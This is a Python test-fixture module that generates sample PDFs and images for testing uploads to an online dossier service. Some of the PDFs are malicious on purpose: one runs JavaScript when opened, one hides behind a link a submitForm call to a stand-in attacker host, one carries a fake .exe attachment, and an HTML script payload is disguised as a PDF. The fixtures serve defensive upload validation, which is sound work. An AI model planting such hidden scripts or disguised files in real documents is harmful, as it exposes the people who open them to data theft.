"""Documents for upload tests (online dossiers): real PDFs and images made on the spot, good and bad."""

from __future__ import annotations

import io

import pillow_heif
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, RectangleObject, TextStringObject

pillow_heif.register_heif_opener()


def _action(kind: str, key: str, value: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)})


def pdf(*, pages: int = 1, javascript: bool = False, link_javascript: bool = False, password: str = "",
        link: str = "", attachment: bool = False, open_action_uri: str = "") -> bytes:
    """A PDF of blank A4 pages; ``javascript`` runs a script when opened, ``link_javascript`` hides one behind a
    link on the first page."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    root = writer.root_object
    if javascript:
        root[NameObject("/OpenAction")] = _action("/JavaScript", "/JS", "app.alert('xin chao');")
    if link:
        writer.add_uri(0, link, RectangleObject([50, 50, 200, 80]))
    if link_javascript:
        writer.add_uri(0, "https://example.vn/", RectangleObject([50, 100, 200, 130]))
        annotation = writer.pages[0]["/Annots"][-1].get_object()  # type: ignore[index]
        annotation[NameObject("/A")] = _action("/JavaScript", "/JS", "this.submitForm('https://evil.example');")
    if attachment:
        writer.add_attachment("chay-toi.exe", b"MZ not really a program")
    if open_action_uri:
        root[NameObject("/OpenAction")] = _action("/URI", "/URI", open_action_uri)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image(fmt: str = "JPEG", size: tuple[int, int] = (320, 240), color: tuple[int, int, int] = (30, 120, 200)
          ) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, format=fmt, **({"quality": 70} if fmt in ("JPEG", "HEIF") else {}))
    return out.getvalue()


def jpeg() -> bytes:
    return image("JPEG")


def png() -> bytes:
    return image("PNG")


def heic() -> bytes:
    """An HEIC photo as an iPhone takes them (HEVC in an ISO-BMFF container with the "heic" brand)."""
    return image("HEIF")


HTML_AS_PDF = b"<!doctype html><html><body><script>alert(1)</script>Gi\xe1\xba\xa5y khai sinh</body></html>"
